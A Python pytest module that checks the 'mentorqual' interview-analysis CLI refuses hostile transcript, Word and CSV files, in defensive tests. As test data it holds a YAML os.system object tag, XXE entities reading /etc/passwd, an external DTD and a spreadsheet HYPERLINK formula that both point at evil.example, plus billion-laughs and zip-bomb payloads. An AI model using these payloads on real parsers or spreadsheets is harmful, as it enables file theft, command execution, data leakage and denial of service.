"""Hostile input through the command line.

Each bad file gives exit status 1, one ``Error:`` line naming the file (and line or
row where known) and no traceback, and leaves the project as it was: the project
already holds one interview, so "unchanged" means something. Input that can be read
correctly (odd encodings, Excel's semicolons, text that looks like a formula) is
imported, with a warning where the importer had to guess.
"""

from __future__ import annotations

import csv
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner, Result

from mentorqual.cli import cli
from mentorqual.errors import InputError
from mentorqual.importers.document import MAX_TRANSCRIPT_BYTES
from mentorqual.importers.transcript import MAX_PARAGRAPH_CHARS
from mentorqual.importers.txt import read_txt

from .conftest import CODEBOOK, INTERVIEW, snapshot

FRONT = "---\ninterview: T05\nregion: Sjælland\nrole: Jobkonsulent\n---\n"
LIMIT_HINT = "set MENTORQUAL_MAX_BYTES (in bytes) to change the limit"


def invoke(runner: CliRunner, db: Path, *args: str, env: dict[str, str] | None = None) -> Result:
    return runner.invoke(cli, ["--project", str(db), *args], env=env)


@pytest.fixture
def db(runner: CliRunner, tmp_path: Path, write: Callable[..., Path]) -> Path:
    """A project that holds one interview (T01) and the sample codebook."""
    path = tmp_path / "p.db"
    assert invoke(runner, path, "import", str(write("T00.txt", INTERVIEW))).exit_code == 0
    assert invoke(runner, path, "codebook", "load", str(CODEBOOK)).exit_code == 0
    return path


def assert_refused(
    runner: CliRunner, db: Path, args: list[str], message: str, env: dict[str, str] | None = None
) -> None:
    """The command fails with exactly ``Error: message`` and the project is unchanged."""
    before = snapshot(db)
    result = invoke(runner, db, *args, env=env)
    assert result.exit_code == 1, result.output
    assert result.output == f"Error: {message}\n"
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    after = snapshot(db)
    assert after == before
    assert after[1] == "ok"


def stored_text(db: Path, interview: str) -> str:
    con = sqlite3.connect(db)
    try:
        row = con.execute("SELECT text FROM texts WHERE interview_id = ?", (interview,)).fetchone()
    finally:
        con.close()
    assert row is not None, f"{interview} was not imported"
    return str(row[0])


# -- text files --------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(13) + b"\x00" * 64
# Every byte except NUL and the five cp1252 leaves undefined: decodes, but is no text.
NO_NUL_JUNK = bytes(b for b in range(1, 256) if b not in b"\x81\x8d\x8f\x90\x9d") * 8

BAD_TEXT_FILES = [
    ("empty", b"", "{path}: the file is empty"),
    ("blank lines only", b"\r\n \n\t\n", "{path}: the file is empty"),
    (
        "random bytes with NULs",
        bytes((i * 7919 + 13) % 256 for i in range(4096)),
        "{path}: not a text file (it contains binary data)",
    ),
    ("PNG renamed", PNG, "{path}: not a text file (it contains binary data)"),
    (
        "bytes without NUL",
        NO_NUL_JUNK,
        "{path}, line 1: not a text file (it contains the control character U+0001)",
    ),
    (
        "escape code in a paragraph",
        (FRONT + "I: Hvordan?\nIP: Godt \x1b[31m rødt\n").encode(),
        "{path}, line 7: not a text file (it contains the control character U+001B)",
    ),
    (
        "UTF-16 with BOM, cut in half a character",
        "I: Hej\nIP: Hej\n".encode("utf-16")[:-1],
        "{path}: unreadable UTF-16 text (truncated data)",
    ),
    (
        "neither UTF-8 nor cp1252 on one line",
        (FRONT + "I: Hvordan?\nIP: Trygheden på Ærø.\n").encode() + b"IP: \x81\x8d\n",
        "{path}: unreadable encoding (neither UTF-8 nor cp1252); save it as UTF-8",
    ),
    (
        "no speaker labels",
        (FRONT + "Bare tekst uden navne.\nOg lidt mere tekst.\n").encode(),
        "{path}: no speaker labels found; each turn must start with a label such as 'I:' or 'IP:'",
    ),
    (
        "interviewer labels only",
        (FRONT + "I: Hvordan?\nI: Og så?\n").encode(),
        "{path}: no respondent speech; every label is an interviewer label",
    ),
    (
        "a paragraph too long for the Danish pipeline",
        (FRONT + "I: Fortæl.\nIP: " + "ord " * 500_000 + "\n").encode(),
        "{path}, line 7: paragraph p2 has 1,999,999 characters, "
        f"more than {MAX_PARAGRAPH_CHARS:,}; break it into shorter paragraphs",
    ),
    (
        "YAML alias bomb in the front matter",
        b"---\nregion: Sj\xc3\xa6lland\na: &a [x, x, x, x, x, x, x, x, x]\n"
        b"b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
        b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n---\nI: a\nIP: b\n",
        "{path}: attribute 'a' must be a single value",
    ),
]


@pytest.mark.parametrize(
    ("content", "message"),
    [pytest.param(c, m, id=name) for name, c, m in BAD_TEXT_FILES],
)
def test_bad_text_file(
    runner: CliRunner, db: Path, write: Callable[..., Path], content: bytes, message: str
) -> None:
    path = write("T05.txt", content)
    assert_refused(runner, db, ["import", str(path)], message.format(path=path))


def test_yaml_python_tag_is_refused_and_never_run(
    runner: CliRunner, db: Path, write: Callable[..., Path], tmp_path: Path
) -> None:
    marker = tmp_path / "hacked"
    path = write(
        "T05.txt",
        "---\nregion: Sjælland\n"
        f'role: !!python/object/apply:os.system ["echo hacked > {marker}"]\n'
        "---\nI: Hvordan?\nIP: Godt.\n",
    )
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}, line 3: malformed front matter: could not determine a constructor for "
        "the tag 'tag:yaml.org,2002:python/object/apply:os.system'",
    )
    assert not marker.exists()


def test_duplicate_interview_id_across_files(
    runner: CliRunner, db: Path, write: Callable[..., Path]
) -> None:
    first = write("batch/a.txt", FRONT + "I: Hvordan?\nIP: Godt.\n")
    second = write("batch/b.txt", FRONT + "I: Hvordan?\nIP: Skidt.\n")
    assert_refused(
        runner,
        db,
        ["import", str(first.parent)],
        f"{second}: duplicate interview id 'T05' (also in {first})",
    )


# -- size limits ---------------------------------------------------------------------


def test_50_mb_single_line_is_refused_without_reading_it(
    runner: CliRunner, db: Path, tmp_path: Path
) -> None:
    path = tmp_path / "in" / "T05.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    chunk = b"ord " * 250_000
    with path.open("wb") as handle:  # one line, written without 50 MB in memory
        handle.write(FRONT.encode() + b"IP: ")
        while (left := 50_000_000 - handle.tell()) > 0:
            handle.write(chunk[:left])
    assert path.stat().st_size == 50_000_000
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: 50 MB, more than the {MAX_TRANSCRIPT_BYTES / 1e6:g} MB a transcript may "
        f"have; {LIMIT_HINT}",
    )


def test_size_limit_comes_from_the_environment(
    runner: CliRunner, db: Path, write: Callable[..., Path]
) -> None:
    path = write("T05.txt", FRONT + "I: Hvordan?\nIP: Godt.\n")
    size = path.stat().st_size
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: {size / 1e6:g} MB, more than the {(size - 1) / 1e6:g} MB a transcript may "
        f"have; {LIMIT_HINT}",
        env={"MENTORQUAL_MAX_BYTES": str(size - 1)},
    )
    result = invoke(runner, db, "import", str(path), env={"MENTORQUAL_MAX_BYTES": str(size)})
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("value", ["20MB", "0", "-5", "lots"])
def test_bad_size_limit_setting(
    runner: CliRunner, db: Path, write: Callable[..., Path], value: str
) -> None:
    path = write("T05.txt", FRONT + "I: Hvordan?\nIP: Godt.\n")
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"MENTORQUAL_MAX_BYTES={value!r}: not a positive whole number of bytes",
        env={"MENTORQUAL_MAX_BYTES": value},
    )


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_device_named_txt_is_refused(runner: CliRunner, db: Path, tmp_path: Path) -> None:
    path = tmp_path / "in" / "T05.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/dev/zero")
    assert_refused(runner, db, ["import", str(path)], f"{path}: not a regular file")


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_endless_input_is_read_only_up_to_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MENTORQUAL_MAX_BYTES", "1000")
    with pytest.raises(InputError) as error:
        read_txt(Path("/dev/zero"))
    assert (
        str(error.value) == f"/dev/zero: more than the 0.001 MB a transcript may have; {LIMIT_HINT}"
    )


# -- encodings -------------------------------------------------------------------------

TURNS = "I: Hvordan går det?\nIP: Trygheden på Ærø er stor.\n\nI: Og kurserne?\nIP: Få, men gode.\n"
EXPECTED = TURNS.rstrip("\n")
HALF = TURNS.index("I: Og")


@pytest.mark.parametrize(
    ("content", "warning"),
    [
        pytest.param((FRONT + TURNS).encode(), None, id="UTF-8"),
        pytest.param((FRONT + TURNS).encode("utf-8-sig"), None, id="UTF-8 with BOM"),
        pytest.param((FRONT + TURNS).encode("utf-16"), None, id="UTF-16 with BOM"),
        pytest.param(
            (FRONT + TURNS).encode("utf-16-le"),
            "{path}: no byte-order mark; read as UTF-16 (little-endian)",
            id="UTF-16 LE without BOM",
        ),
        pytest.param(
            (FRONT + TURNS).encode("utf-16-be"),
            "{path}: no byte-order mark; read as UTF-16 (big-endian)",
            id="UTF-16 BE without BOM",
        ),
        pytest.param(
            (FRONT + TURNS).encode("latin-1"),
            "{path}, line 3: not valid UTF-8; read as cp1252 (Windows)",
            id="Latin-1",
        ),
        pytest.param(
            (FRONT + TURNS).encode("cp1252"),
            "{path}, line 3: not valid UTF-8; read as cp1252 (Windows)",
            id="cp1252",
        ),
        pytest.param(
            (FRONT + TURNS[:HALF]).encode() + TURNS[HALF:].encode("cp1252"),
            "{path}, line 10: not valid UTF-8, unlike the rest of the file; "
            "read as cp1252 (Windows)",
            id="half UTF-8, half cp1252",
        ),
        pytest.param(
            (FRONT + TURNS.replace("I: Og", "\ufeffI: Og")).encode(),
            None,
            id="stray BOM from joined files",
        ),
    ],
)
def test_encodings_import_correctly(
    runner: CliRunner,
    db: Path,
    write: Callable[..., Path],
    content: bytes,
    warning: str | None,
) -> None:
    path = write("T05.txt", content)
    result = invoke(runner, db, "import", str(path))
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith("Warning:")]
    assert warnings == ([f"Warning: {warning.format(path=path)}"] if warning else [])
    assert "2 respondent paragraphs" in result.output
    assert stored_text(db, "T05") == EXPECTED


def test_vertical_tab_and_form_feed_are_line_breaks(
    runner: CliRunner, db: Path, write: Callable[..., Path], tmp_path: Path
) -> None:
    """Word processors' line and page breaks; a spreadsheet cell cannot hold them."""
    path = write("T05.txt", FRONT + "I: Hvordan?\nIP: Papirer og blanketter.\vMeget stor.\f\n")
    result = invoke(runner, db, "import", str(path))
    assert result.exit_code == 0, result.output
    assert "2 respondent paragraphs" in result.output
    assert stored_text(db, "T05") == "I: Hvordan?\nIP: Papirer og blanketter.\nMeget stor."


# -- Word files --------------------------------------------------------------------


def make_docx(path: Path, lines: list[str]) -> Path:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(str(path))
    return path


DOCX_LINES = ["---", "region: Sjælland", "interview: T05", "---", "I: Hvordan?", "IP: Hej selv."]


def rewrite_part(source: Path, target: Path, name: str, edit: Callable[[bytes], bytes]) -> Path:
    """Copy a .docx with one part changed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, edit(data) if info.filename == name else data)
    return target


@pytest.fixture
def good_docx(tmp_path: Path) -> Path:
    return make_docx(tmp_path / "src" / "T05.docx", DOCX_LINES)


def test_good_docx_imports(runner: CliRunner, db: Path, good_docx: Path) -> None:
    result = invoke(runner, db, "import", str(good_docx))
    assert result.exit_code == 0, result.output


def test_truncated_docx(
    runner: CliRunner, db: Path, good_docx: Path, write: Callable[..., Path]
) -> None:
    data = good_docx.read_bytes()
    path = write("T05.docx", data[: len(data) // 2])
    assert_refused(
        runner, db, ["import", str(path)], f"{path}: not a valid .docx file (not a zip archive)"
    )


def test_docx_with_a_corrupt_part(
    runner: CliRunner, db: Path, good_docx: Path, tmp_path: Path
) -> None:
    path = tmp_path / "in" / "T05.docx"
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(good_docx) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():  # stored, so that a flipped byte is a CRC error
            new.writestr(info.filename, old.read(info))
    data = bytearray(path.read_bytes())
    at = data.index(b"Hej selv.")
    data[at] ^= 0x20
    path.write_bytes(bytes(data))
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: not a valid .docx file (Bad CRC-32 for file 'word/document.xml')",
    )


def write_bomb(path: Path, good_docx: Path, megabytes: int) -> int:
    """A .docx whose document.xml unpacks to ``megabytes`` MB of spaces; returns the
    declared uncompressed size of all its parts."""
    path.parent.mkdir(parents=True, exist_ok=True)
    chunk = b" " * 1_000_000
    with zipfile.ZipFile(good_docx) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != "word/document.xml":
                new.writestr(info.filename, old.read(info))
                continue
            xml = old.read(info)
            head, tail = xml.split(b"Hej selv.")
            with new.open("word/document.xml", "w") as part:
                part.write(head + b"Hej selv.")
                for _ in range(megabytes):
                    part.write(chunk)
                part.write(tail)
    with zipfile.ZipFile(path) as archive:
        return sum(i.file_size for i in archive.infolist())


def test_zip_bomb_is_refused_before_it_is_unpacked(
    runner: CliRunner, db: Path, good_docx: Path, tmp_path: Path
) -> None:
    path = tmp_path / "in" / "T05.docx"
    size = write_bomb(path, good_docx, 200)
    assert path.stat().st_size < 1_000_000
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: {size / 1e6:g} MB uncompressed, more than the "
        f"{MAX_TRANSCRIPT_BYTES / 1e6:g} MB a transcript may have; {LIMIT_HINT}",
    )


def test_zip_bomb_that_lies_about_its_size(
    runner: CliRunner, db: Path, good_docx: Path, tmp_path: Path
) -> None:
    """A declared size smaller than the real one: zipfile stops at the declared size,
    so the part fails its CRC check instead of unpacking."""
    path = tmp_path / "in" / "T05.docx"
    write_bomb(path, good_docx, 30)
    data = bytearray(path.read_bytes())
    name = b"word/document.xml"
    entry = data.index(b"PK\x01\x02")  # find document.xml in the central directory
    while data[entry + 46 : entry + 46 + len(name)] != name:
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = struct.pack("<I", 4096)  # its uncompressed size
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo("word/document.xml").file_size == 4096
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: not a valid .docx file (Bad CRC-32 for file 'word/document.xml')",
    )


XXE_DOCTYPE = (
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b"Hej &xxe; selv.",
)
LAUGHS_DOCTYPE = (
    b'<!DOCTYPE w:document [<!ENTITY a "hahahahaha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    b"Hej &d; selv.",
)
EXTERNAL_DTD = (b'<!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd">', b"Hej selv.")


def with_doctype(doctype: bytes, text: bytes) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        declaration, rest = xml.split(b"?>", 1)
        return declaration + b"?>\n" + doctype + rest.replace(b"Hej selv.", text)

    return edit


@pytest.mark.parametrize(
    ("part", "doctype"),
    [
        pytest.param("word/document.xml", XXE_DOCTYPE, id="external entity"),
        pytest.param("word/document.xml", LAUGHS_DOCTYPE, id="billion laughs"),
        pytest.param("word/document.xml", EXTERNAL_DTD, id="external DTD"),
        pytest.param("word/styles.xml", XXE_DOCTYPE, id="in styles.xml"),
    ],
)
def test_docx_with_a_doctype_is_refused(
    runner: CliRunner,
    db: Path,
    good_docx: Path,
    tmp_path: Path,
    part: str,
    doctype: tuple[bytes, bytes],
) -> None:
    path = tmp_path / "in" / "T05.docx"
    path.parent.mkdir(parents=True, exist_ok=True)
    rewrite_part(good_docx, path, part, with_doctype(*doctype))
    assert_refused(
        runner,
        db,
        ["import", str(path)],
        f"{path}: not a valid .docx file ({part} has a DOCTYPE declaration, "
        "which Word never writes)",
    )


def test_python_docx_never_expands_entities(good_docx: Path, tmp_path: Path) -> None:
    """Below our refusal: python-docx's lxml parser has resolve_entities=False."""
    path = rewrite_part(
        good_docx, tmp_path / "xxe.docx", "word/document.xml", with_doctype(*XXE_DOCTYPE)
    )
    text = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    assert "root:" not in text
    assert "Hej " in text
    path = rewrite_part(
        good_docx, tmp_path / "laughs.docx", "word/document.xml", with_doctype(*LAUGHS_DOCTYPE)
    )
    text = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    assert "haha" not in text


# -- codings CSV -------------------------------------------------------------------


def test_codings_with_unknown_columns(
    runner: CliRunner, db: Path, write: Callable[..., Path]
) -> None:
    path = write("c.csv", "interview,segment,code,coder,kommentar\nT01,p2,administration,A,ok\n")
    assert_refused(
        runner,
        db,
        ["codings", "import", str(path)],
        f"{path}, line 1: unknown column(s) kommentar; "
        "expected interview, segment, code and optionally coder",
    )


def test_codings_with_a_cell_over_the_csv_limit(
    runner: CliRunner, db: Path, write: Callable[..., Path]
) -> None:
    path = write("c.csv", f"interview,segment,code,coder\nT01,{'x' * 200_000},kurser,A\n")
    assert_refused(
        runner,
        db,
        ["codings", "import", str(path)],
        f"{path}, line 2: not valid CSV (field larger than field limit (131072))",
    )


def test_codings_as_danish_excel_writes_them(
    runner: CliRunner, db: Path, write: Callable[..., Path]
) -> None:
    path = write(
        "c.csv",
        "\ufeffinterview;segment;code;coder\r\n"
        'T01;"mange papirer og blanketter";administration;A\r\n'
        "T01;p5;kurser;A\r\n",
    )
    result = invoke(runner, db, "codings", "import", str(path))
    assert result.exit_code == 0, result.output
    assert result.output == "A: 2 added, 0 removed, on 1 interview(s)\n"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"klik her")',
    "+1 til mentorordningen og blanketterne",
    "-1 for papirarbejdet",
    "@SUM(A1:A9) timer om ugen",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_text_is_data_and_exported_neutralised(
    runner: CliRunner, db: Path, write: Callable[..., Path], tmp_path: Path, suffix: str
) -> None:
    turns = "".join(f"I: Spørgsmål {n}?\nIP: {text}\n" for n, text in enumerate(FORMULAS, 1))
    transcript = write("T05.txt", FRONT + turns)
    assert invoke(runner, db, "import", str(transcript)).exit_code == 0
    rows = [("=HYPERLINK(" if n == 1 else f"p{2 * n}", "administration") for n in (1, 2, 3, 4)]
    codings = write(
        "c.csv",
        "interview,segment,code,coder\n"
        + "".join(f'T05,"{segment}",{code},A\n' for segment, code in rows),
    )
    result = invoke(runner, db, "codings", "import", str(codings))
    assert result.exit_code == 0, result.output
    assert "A: 4 added" in result.output

    output = tmp_path / f"codings{suffix}"
    result = invoke(runner, db, "codings", "export", "-o", str(output))
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        with output.open(encoding="utf-8-sig", newline="") as handle:
            texts = [row["text"] for row in csv.DictReader(handle)]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(output).active
        assert sheet is not None
        header = [c.value for c in sheet[1]]
        column = header.index("text") + 1
        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
        assert all(c.data_type == "s" for c in cells)
        texts = [str(c.value) for c in cells]
    # Issue 22: the quoted row codes (and exports) just its passage, still neutralised.
    assert sorted(texts) == sorted(f"'{text}" for text in ["=HYPERLINK(", *FORMULAS[1:]])
